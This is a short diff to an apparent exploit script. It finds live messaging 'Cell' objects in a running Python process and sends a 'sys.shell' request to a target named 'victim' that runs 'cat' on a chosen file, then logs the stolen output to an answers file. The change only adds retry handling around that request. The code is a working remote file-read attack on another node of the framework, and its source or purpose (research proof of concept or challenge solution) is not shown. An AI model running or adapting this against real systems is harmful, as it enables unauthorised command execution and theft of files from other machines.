@@ -24,13 +24,16 @@ def ask() -> None:
         cells = [found for found in gc.get_objects() if isinstance(found, Cell)]
         if not cells:
             continue
-        reply = cells[0].send_request(
-            channel=CellChannel.CLIENT_MAIN,
-            topic="sys.shell",
-            target=victim,
-            request=new_cell_message({}, Message("sys.shell", f"cat {wanted}")),
-            timeout=5,
-        )
+        try:
+            reply = cells[0].send_request(
+                channel=CellChannel.CLIENT_MAIN,
+                topic="sys.shell",
+                target=victim,
+                request=new_cell_message({}, Message("sys.shell", f"cat {wanted}")),
+                timeout=5,
+            )
+        except RuntimeError:  # not connected yet
+            continue
         body = getattr(reply.payload, "body", reply.payload)
         with Path(answers).open("a") as file:
             file.write(f"{reply.get_header('cn__return_code')} {body!r}\n")
